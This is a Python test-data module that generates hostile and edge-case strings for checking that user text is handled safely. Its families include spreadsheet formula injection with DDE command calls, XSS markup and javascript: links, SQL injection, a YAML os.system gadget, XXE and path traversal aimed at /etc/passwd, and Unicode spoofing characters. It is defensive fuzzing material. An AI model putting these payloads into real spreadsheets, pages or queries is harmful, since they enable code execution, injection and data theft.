"""Strings as bad as an article, a name or a note may hold: each family is what one kind of reader stumbles over."""

from __future__ import annotations

import unicodedata
from functools import cache
from itertools import chain, product

_FORMULA_STARTS = (
    "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\u200b=", "\ufeff=", " =", "'=", "\x00=",
)  # fmt: skip
_FORMULAS = (
    "1+1", "cmd|'/c calc'!A1", 'HYPERLINK("https://example.org","x")', "SUM(A1:A9)",
    'WEBSERVICE("https://example.org")', "DDE(\"cmd\";\"/c calc\")",
    "IMPORTXML(CONCAT(\"https://example.org/\",A1),\"//a\")", "@SUM(1)", "2",
)  # fmt: skip

_SCRIPTS = (
    "alert(1)", "fetch('https://example.org')", "document.cookie", "import('data:text/javascript,alert(1)')",
)  # fmt: skip
_MARKUP = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=https://example.org/x.js>{}</script>",
    "<img src=x onerror={}>", '"><img src=x onerror="{}">', "'><svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>x</a>", "<a href='java\tscript:{}'>x</a>", "<a href=' &#106;avascript:{}'>x</a>",
    "<body onload={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>",
    "<form><button formaction='javascript:{}'>x", "<object data='javascript:{}'>", "<embed src='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>",
    "<style>@import 'javascript:{}'</style>", "<link rel=stylesheet href='javascript:{}'>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?php {} ?>", "</script><script>{}</script>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;",
    "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>", "vbscript:{}", "\\x3cscript\\x3e{}",
    "\\u003cscript\\u003e{}", "%3Cscript%3E{}%3C/script%3E", "`-{}-`", "');{}//", '");{}//', "${{{}}}",
)  # fmt: skip

# What ends whatever a careless page would write the words into.
_ENDS_OF_PLACES = (
    "", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</template>",
    "</iframe>", "</noscript>", "</svg>", "\\", '\\"', "\\'", "*/", "${", "{{", "\u2028",
)  # fmt: skip

_SQL = (
    "' OR '1'='1", "'; DROP TABLE events; --", '"; DROP TABLE "events"; --', "1; ATTACH DATABASE 'x' AS y",
    "' UNION SELECT", "\\'; DELETE FROM articles; --", "/* */", "--", "%", "_", "x' AND load_extension('x') --",
    "NULL", "null", "' || x || '", "1/0", "MATCH", '"words" NEAR/2 "words"', "NOT", "words*", "^words",
    "title: words", "{a b} : c", "[a]", ":name", "?1", "@x",
)  # fmt: skip

_TEMPLATES = (
    "{{7*7}}", "{% raw %}", "{%- include 'x' -%}", "{# note #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@{7*7}",
    "*{7*7}", "~{7*7}", "$[name]", "$[description]", "$[event/evidence]", "$$", "$(id)", "`id`", "%s", "%n%n%n",
    "%(title)s", "{}", "{0}", "{title}", "{0.__class__.__mro__}", "{{", "}}", "{%", "%}", "\\{x\\}",
    "{{constructor.constructor('x')()}}", "__proto__", "constructor", "[[7*7]]", "$x", "%PATH%", "~",
    "!!python/object/apply:os.system ['id']", "&anchor", "*anchor", "<<: *x", "!ENV x", "![x](javascript:alert(1))",
    "[x](javascript:alert(1))", "# head", "| a | b |", "\\\\", "\\", "\\n", "\\0", "\\u0000", "\\ud800",
)  # fmt: skip

_BREAKERS = (
    "]]>", "<![CDATA[", "<![CDATA[x]]>", "]]]]><![CDATA[>", "<!-- x -->", "-->", "--", "<!DOCTYPE x>",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&y;", "&amp;", "&amp;amp;",
    "&lt;", "&#0;", "&#x0;", "&#13;", "&#xD800;", "&nbsp;", "&", "<", ">", '"', "'", "</value>",
    "</Data></ExtendedData>", "</Placemark></Folder>", "</kml>", "<value/>", "xmlns:x='y'", "</description>",
    '"a","b"', '""', '"""', "a,b", "a;b", "a\tb", '"\n"', '",\r\n"', '"},{"', '"}]}', '\\"', "\\u0022", "/*", "*/",
    "//", "\\/", "null", "true", "false", "undefined", "{}", "[]", "[[[[", "_x0041_", "_x000D_", "_x005F_x0041_",
    "_x0000_", "_xD800_", "#REF!", "#N/A", "sheet!A1", "'", "''", "a'", "`", "´", "‘’“”", "«»", ",", ";", "|", ":",
    "sep=,", "ID;PWXL;N;E", "\ufeffbyte-order mark", "þÿ",
)  # fmt: skip

_NUMBERS = (
    "0", "-0", "+1", "-1", "007", "1e309", "-1e309", "1e-400", "NaN", "nan", "-nan", "Infinity", "-Infinity", "inf",
    "0x1F", "0b1", "1_000", "1,000", "1.000,5", "1/2", "½", "٣", "１２", "²", "9007199254740993", "1" * 400, "3-4",
    "1-2-3", "2020-02-30", "MARCH1", "SEPT2", "1:2", "24:00", "1900-02-29", "0000-00-00", "2026-13-45", "12/11/10",
    "1E5", "2d3", "TRUE", "FALSE", "yes", "N/A", "#NAME?", "true", "None", "NoneType", "1.0.0", "١٢٣", "Ⅷ", "$1",
    "1%", "(1)", "1 000", "1\u00a0000", "−1", "1e", ".", "-", "+", "e", "00:00:00",
)  # fmt: skip

_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "C:x", "\\\\server\\share", "~/x",
    "~root/x", "./x", ".", "..", "...", "x/..", "x/../../y", "..%2f..%2fx", "%2e%2e/x", "..%c0%afx", "x\x00.txt",
    "CON", "nul.txt", "COM1", "x.", "x ", ".hidden", "-rf", "--force", "file:///etc/passwd", "x|y", "x>y", "x:y",
    "x?y", "x*y", "a" * 300, "é" * 200, "/dev/full", "/proc/self/environ", "//", "/",
)  # fmt: skip

_LINKS = (
    "https://example.org/" + "a" * 3000, "http://", "https://[::1", "https://example.org/\x00",
    "https://example.org/ x", "HTTP://EXAMPLE.ORG", "https://user:pass@example.org", "ftp://example.org",
    "mailto:x@example.org", "internal:Sheet1!A1", "external:c:\\x.xlsx", "//example.org",
    "https://example.org/?a=1&b=2#c#d", "https://example.org/%00", "https://xn--80ak6aa92e.com",
    "https://пример.рф", "https://example.org\\@x",
)  # fmt: skip

_SEEN_OTHERWISE = (
    "\u202egnp.exe", "\u202dx", "\u2066x\u2069", "\u2067x\u2069", "\u2068x", "\u202ax\u202c", "\u200ex\u200f",
    "\u061cx", "שלום", "العربية", "a שלום b", "zero\u200bwidth", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad",
    "\u034f", "\u115f", "\u3164", "\u2800", "\u180e", "pаypal", "ｆｕｌｌ", "ﬁ", "ſ", "İ", "ı", "ß", "ẞ", "K", "Å",
    "Å", "A\u030a", "é", "e\u0301", "각", "각", "ǅ", "\u0344", "\u0f73", "\u2126", "ﷺ", "𝔄", "①", "㎏", "ﻼ",
    "Z" + "\u0300\u0301\u0302" * 60, "\u0301", "नमस्ते", "ไทย", "日本語", "𠮷", "𐍈", "𓂀", "漢字\u3000",
)  # fmt: skip

_EMOJI = (
    "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇵🇱", "🇵", "👍🏽", "☃️", "☃︎", "1️⃣", "❤️‍🔥", "🧑🏿‍🚀",
    "\U0001f3fb", "\ufe0f", "\U000e0001",
)  # fmt: skip

_LINE_ENDS = ("\n", "\r", "\r\n", "\n\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")

_SCHEMES = (
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "blob:https://example.org/1", "//example.org/x", "\\\\example.org\\x", "about:blank", "ftp://example.org", "x:y",
    "view-source:https://example.org", "filesystem:https://example.org/x", "intent://example.org#Intent;end",
    "javascript://example.org/%0aalert(1)", "javascript:https://example.org", "feed:javascript:alert(1)", "mailto:x",
)  # fmt: skip
_BEFORE = ("", " ", "\t", "\n", "\x00", "\x01", "\x1f", "\x7f", "\u00a0", "\u200b", "\u2028", "\ufeff", "\u202e", "\\")


@cache
def _all() -> tuple[str, ...]:
    formulas = (start + formula for start, formula in product(_FORMULA_STARTS, _FORMULAS))
    markup = (form.format(script) for form, script in product(_MARKUP, _SCRIPTS))
    controls = (shape.format(chr(code)) for code in [*range(0x20), *range(0x7F, 0xA0)] for shape in ("{}", "a{}b"))
    halves = ("\ud800", "\udfff", "a\udbffb", "\udc00\ud800", "\ud83d\ude00", "=\ud800", "\udcff" * 3)
    last_of_planes = (plane << 16 | end for plane in range(17) for end in (0xFFFE, 0xFFFF))
    no_characters = (f"a{chr(code)}b" for code in [*last_of_planes, *range(0xFDD0, 0xFDF0)])
    lines = chain.from_iterable((end, f"a{end}b", f"{end}a", f"a{end}", f"a{end}{end}=b") for end in _LINE_ENDS)
    forms = (unicodedata.normalize(form, text) for form in ("NFC", "NFD", "NFKC", "NFKD") for text in _SEEN_OTHERWISE)
    spaces = ("", " ", "  ", " a ", "\u00a0", "\u2003a\u2003", "\u3000", "\t\t", "a  b")
    long = ("a" * 32_767, "a" * 32_768, "😀" * 16_384, '=<"]]>\n' * 5_000)
    families = (
        formulas, markup, _SQL, _TEMPLATES, _BREAKERS, _NUMBERS, _PATHS, _LINKS, _SEEN_OTHERWISE, forms, _EMOJI,
        controls, halves, no_characters, lines, spaces, long,
    )  # fmt: skip
    return tuple(dict.fromkeys(chain.from_iterable(families)))


def links_nowhere() -> list[str]:
    """Addresses that no reader may follow by a click: of other schemes, in the spellings that browsers mend."""
    plain = [f"{before}{address}" for address, before in product(_SCHEMES, _BEFORE)]
    split = [f"{address[:at]}{sign}{address[at:]}" for address in _SCHEMES for sign in "\t\n\r\x00" for at in (1, 4)]
    cases = [change(address) for address in _SCHEMES for change in (str.upper, str.title, str.swapcase)]
    alike = [
        address.replace(letter, other)
        for address in _SCHEMES
        for letter, other in (
            ("a", "а"),
            ("s", "ſ"),
            (":", "："),
            ("/", "／"),
            ("i", "ı"),
            (":", "&colon;"),
            (":", "%3A"),
        )
    ]
    return [
        *dict.fromkeys(
            (*plain, *split, *cases, *alike, "ｈttps://example.org", "https：//example.org", "https:", "http")
        )
    ]


def running(*calls: str) -> list[str]:
    """Every form of a script, behind every end of a place that it may stand in, for each call that it would make."""
    return [f"{end}{form.format(call)}" for call, end, form in product(calls, _ENDS_OF_PLACES, _MARKUP)]


def strings() -> list[str]:
    """All of them, each once, in an order that does not change."""
    return list(_all())
